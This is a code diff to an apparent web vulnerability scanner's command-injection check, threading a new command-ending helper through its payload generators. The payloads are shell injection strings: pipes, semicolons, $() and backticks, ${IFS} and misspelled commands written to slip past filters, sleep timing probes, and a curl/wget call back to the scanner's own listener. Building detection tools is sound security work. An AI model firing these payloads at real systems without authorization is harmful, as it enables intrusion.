@@ -2,7 +2,7 @@ import { pageOf } from '@rocca/tools/web/scope';
 import { cweReference, scored } from '../../core/definition.ts';
 import { newDatabaseError } from '../attack/error-texts.ts';
 import { type OutputPayload, type Product, showsOutput } from '../attack/output.ts';
-import { proof, repeat, Trial } from '../attack/trial.ts';
+import { mayWiden, proof, repeat, Trial } from '../attack/trial.ts';
 import { showsWait } from '../attack/wait.ts';
 import type { PointCheck, WebDefinition, WebSighting } from '../check.ts';
 import type { InjectionPoint } from '../crawl/point.ts';
@@ -40,6 +40,12 @@ const echo = ({ a, b, left, right }: Product) => `echo ${left}$((${a}*${b}))${ri
 const inAllQuotes = (value: string, separator: string, command: string, end = ' #') =>
   `${value}${separator}${command}${end}'${separator}${command}${end}"${separator}${command}${end}`;
 
+/**
+ * Ends a command. Where the value stands in a statement of SQL that writes, the sign alone would end that as well, before
+ * its condition: nothing, to a shell, is an error there.
+ */
+const endOf = (point: InjectionPoint) => (mayWiden(point) ? ';' : '$();');
+
 const sumOf = ({ a, b }: Product, blank = ' ') => ['expr', a, '+', b].join(blank);
 
 const misspell = (spelled: string) => spelled.replace(/e(?:''|\\)?(cho|xpr)/g, 'eq$1').replaceAll('set /a', 'sqt /a');
@@ -51,11 +57,11 @@ const summed = (context: Evidence, spell: (product: Product) => string): OutputP
 });
 
 /** Each of them gets past filters that stop the ones before it. */
-function outputPayloads(value: string): readonly OutputPayload[] {
+function outputPayloads(value: string, end: string): readonly OutputPayload[] {
   return [
     shown({ it: 'una pipe della shell', en: 'a pipe of a shell' }, (product) => inAllQuotes(value, '|', echo(product))),
     shown({ it: 'un punto e virgola della shell', en: 'a semicolon of a shell' }, (product) =>
-      inAllQuotes(value, ';', echo(product), ';#'),
+      inAllQuotes(value, end, echo(product), ';#'),
     ),
     summed(
       { it: 'una pipe senza altri segni', en: 'a pipe without other signs' },
@@ -66,7 +72,7 @@ function outputPayloads(value: string): readonly OutputPayload[] {
     // Ends as a name of a host does.
     shown(
       { it: 'spazi scritti in altro modo', en: 'blanks that are no blanks' },
-      ({ a, b, left, right }) => `${value};echo\${IFS}${left}$((${a}*${b}))${right}.q.test`,
+      ({ a, b, left, right }) => `${value}${end}echo\${IFS}${left}$((${a}*${b}))${right}.q.test`,
     ),
     shown({ it: '$( ) della shell', en: '$( ) of a shell' }, (product) => `${value}$(${echo(product)})`),
     summed({ it: 'apici inversi', en: 'backticks' }, (product) => `${value}\`${sumOf(product)}\``),
@@ -78,17 +84,17 @@ function outputPayloads(value: string): readonly OutputPayload[] {
     // Lists of forbidden words do not know it.
     shown(
       { it: 'un nome scritto in altro modo', en: 'a name in another spelling' },
-      ({ a, b, left, right }) => `${value};e\\cho ${left}$((${a}*${b}))${right}`,
+      ({ a, b, left, right }) => `${value}${end}e\\cho ${left}$((${a}*${b}))${right}`,
     ),
   ];
 }
 
 /** Only where answers say that something of the value was refused or understood. */
-function rarePayloads(value: string): readonly OutputPayload[] {
+function rarePayloads(value: string, end: string): readonly OutputPayload[] {
   return [
     shown({ it: 'due pipe', en: 'two pipes' }, (product) => inAllQuotes(`${value}_no_such`, '||', echo(product))),
     shown({ it: 'due e commerciali', en: 'two ampersands' }, (product) => inAllQuotes(value, '&&', echo(product))),
-    summed({ it: 'graffe', en: 'braces' }, (product) => `${value};{${sumOf(product, ',')}}`),
+    summed({ it: 'graffe', en: 'braces' }, (product) => `${value}${end}{${sumOf(product, ',')}}`),
     summed({ it: 'una pipe e tabulazioni', en: 'a pipe and tabs' }, (product) => `${value}|${sumOf(product, '\t')}`),
     summed(
       { it: 'un nome scritto in altro modo, dopo una riga', en: 'a name in another spelling, in a line of its own' },
@@ -107,11 +113,11 @@ function windowsPayloads(value: string): readonly OutputPayload[] {
   ];
 }
 
-const waits = (value: string): ReadonlyArray<(seconds: number) => string> => [
-  (seconds) => inAllQuotes(value, ';', `sleep ${seconds}`, ';#'),
+const waits = (value: string, end: string): ReadonlyArray<(seconds: number) => string> => [
+  (seconds) => inAllQuotes(value, end, `sleep ${seconds}`, ';#'),
   (seconds) => inAllQuotes(value, '|', `sleep ${seconds}`),
   (seconds) => `${value}\nsleep\t${seconds}\n`,
-  (seconds) => `${value};sleep\${IFS}${seconds};`,
+  (seconds) => `${value}${end}sleep\${IFS}${seconds};`,
   (seconds) => `${value}$(sleep ${seconds})`,
   (seconds) => `${value}\`sleep ${seconds}\``,
   (seconds) => inAllQuotes(value, '&&', `sleep ${seconds}`),
@@ -167,7 +173,9 @@ async function heardFrom(trial: Trial): Promise<WebSighting | null> {
   const ask = async () => {
     const token = trial.tools.token();
     const url = listener.urlFor(token);
-    const answer = await trial.send(inAllQuotes(trial.point.value, ';', `curl -s ${url}||wget -qO- ${url}`, ';#'));
+    const answer = await trial.send(
+      inAllQuotes(trial.point.value, endOf(trial.point), `curl -s ${url}||wget -qO- ${url}`, ';#'),
+    );
     // An application that fetches addresses by itself is another weakness: then the request carries the rest as well.
     const heard = await listener.heard(token, trial.atLeast('medium') ? 1_500 : 300);
     return heard && !/%7c|wget|;|%3b/i.test(heard.head.split('\n', 1)[0] ?? '')
@@ -193,8 +201,9 @@ async function heardFrom(trial: Trial): Promise<WebSighting | null> {
 
 async function payloadsFor(trial: Trial, named: boolean): Promise<readonly OutputPayload[]> {
   const { value } = trial.point;
-  const usual = [...(isWindows(trial) ? windowsPayloads(value) : []), ...outputPayloads(value)];
-  const all = [...usual, ...rarePayloads(value)];
+  const end = endOf(trial.point);
+  const usual = [...(isWindows(trial) ? windowsPayloads(value) : []), ...outputPayloads(value, end)];
+  const all = [...usual, ...rarePayloads(value, end)];
   if (trial.atLeast('high')) return all;
   if (!trial.atLeast('default')) return usual.slice(0, named ? 4 : 1);
   if (trial.isIgnored) return named ? usual : usual.slice(0, 1);
@@ -245,7 +254,7 @@ export const commandInjection = {
 /** The answer waits as long as a command of ours says. */
 export async function waitsForCommand(trial: Trial, most?: number): Promise<WebSighting | null> {
   const { value } = trial.point;
-  const spellings = [...(isWindows(trial) ? windowsWaits(value) : []), ...waits(value)];
+  const spellings = [...(isWindows(trial) ? windowsWaits(value) : []), ...waits(value, endOf(trial.point))];
   for (const of of spellings.slice(0, most)) {
     const seen = await showsWait(trial, { of });
     if (!seen) continue;
